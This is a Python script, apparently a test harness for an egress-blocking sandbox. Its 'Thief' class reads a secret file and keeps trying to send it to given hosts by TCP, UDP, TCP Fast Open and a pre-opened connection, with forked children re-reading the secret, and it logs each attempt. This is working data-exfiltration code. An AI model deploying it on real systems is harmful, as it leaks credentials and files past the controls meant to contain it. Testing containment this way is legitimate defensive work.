#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""Tries to send a secret, again and again, until it is killed.

One process holds the secret since its first moment and sends on ever new sockets and on one old connection; its children
read it anew each time, so that some read while nobody guards. Each try is a line in the file of tries.
"""
import argparse
import os
import signal
import socket
import time

PATIENCE = 0.15 # seconds for one connect: a held one would wait for ever


def secret(path):
    with open(path, "rb") as f:
        return f.read()


def by_tcp(family, address, data):
    with socket.socket(family, socket.SOCK_STREAM) as s:
        s.settimeout(PATIENCE)
        s.connect(address)
        s.sendall(data)


def by_udp(family, address, data):
    with socket.socket(family, socket.SOCK_DGRAM) as s:
        s.sendto(data, address)


def by_fast_open(family, address, data):
    with socket.socket(family, socket.SOCK_STREAM) as s:
        s.settimeout(PATIENCE)
        s.sendto(data, socket.MSG_FASTOPEN, address)


class Thief:
    def __init__(self, args):
        self.args = args
        self.tries = os.open(args.tries, os.O_WRONLY | os.O_APPEND)
        self.ways = [(way, family, (host, port)) for family, host in ((socket.AF_INET, args.to), (socket.AF_INET6, args.to6))
                     for way, port in ((by_tcp, 8000), (by_udp, 9000), (by_fast_open, 8080))]

    def note(self, what):
        os.write(self.tries, ("%.3f %s\n" % (time.time(), what)).encode())

    def old_connection(self):
        try:
            s = socket.create_connection((self.args.to, 9001), 2)
            s.setblocking(False)
            return s
        except OSError:
            return None

    def send_all_ways(self, data, who):
        for way, family, address in self.ways:
            try:
                way(family, address, data)
                outcome = "sent"
            except OSError as e:
                outcome = type(e).__name__
            self.note("%s %s %s" % (who, way.__name__, outcome))

    def child(self):
        pid = os.fork()
        if pid == 0:
            self.send_all_ways(secret(self.args.secret), "child")
            os._exit(0)
        return pid

    def run(self):
        old = self.old_connection()
        data = secret(self.args.secret)
        while True:
            child = self.child()
            try:
                if old:
                    old.send(data)
                    self.note("old connection")
            except BlockingIOError:
                pass
            except OSError:
                old.close()
                old = None # refused: a new one would not be old
            self.send_all_ways(data, "holder")
            os.waitpid(child, 0)


def main():
    args = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    for name in ("secret", "to", "to6", "tries"):
        args.add_argument("--" + name, required=True)
    signal.signal(signal.SIGTERM, lambda *_: os._exit(0))
    Thief(args.parse_args()).run()


if __name__ == "__main__":
    main()
